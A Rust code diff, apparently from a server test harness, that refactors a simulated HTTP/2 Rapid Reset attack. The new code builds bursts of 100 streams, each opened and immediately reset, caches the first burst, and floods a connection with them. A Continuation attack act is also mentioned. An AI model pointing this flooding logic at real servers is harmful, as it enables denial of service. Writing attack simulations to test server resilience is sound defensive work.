@@ -1,6 +1,7 @@
 //! What an attacker does on one connection, and who ends it.
 
 use std::net::{IpAddr, SocketAddr};
+use std::sync::LazyLock;
 use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
 use std::time::{Duration, Instant};
 
@@ -129,14 +130,9 @@ impl Act {
             }
             Act::RapidReset => {
                 socket.write_all(&frames::preface(false)).await?;
-                let reset = |stream| frames::frame(frames::RST_STREAM, 0, stream, &[0, 0, 0, 8]);
-                // A hundred at once, as the attack has it: what trickles in is taken and given back one by one.
-                let burst = |first: u32| {
-                    (0..100)
-                        .map(move |turn| first + 2 * turn)
-                        .flat_map(move |stream| [frames::ask(stream), reset(stream)].concat())
-                };
-                let bursts = (0..100_u32).map(|turn| (burst(1 + 200 * turn).collect(), 100));
+                // As the server ends it, the first is mostly the last.
+                let more = (1..100).map(|turn| (burst(1 + 200 * turn), 100));
+                let bursts = std::iter::once((FIRST_BURST.clone(), 100)).chain(more);
                 flood(socket, bursts, stop, tally).await
             }
             Act::Continuation => {
@@ -181,6 +177,17 @@ impl Act {
             }
         }
     }
+}
+
+/// Made once: an attacker is somewhere else, and making it anew would take the processor away from the server.
+static FIRST_BURST: LazyLock<Vec<u8>> = LazyLock::new(|| burst(1));
+
+/// A hundred streams from this one on, opened and reset, all at once as the attack has it: what trickles in is taken and
+/// given back one by one.
+fn burst(first: u32) -> Vec<u8> {
+    let reset = |stream| frames::frame(frames::RST_STREAM, 0, stream, &[0, 0, 0, 8]);
+    let streams = (0..100).map(|turn| first + 2 * turn);
+    streams.flat_map(|stream| [frames::ask(stream), reset(stream)].concat()).collect()
 }
 
 /// Sends piece after piece on a connection of HTTP/2 until the server has had enough.
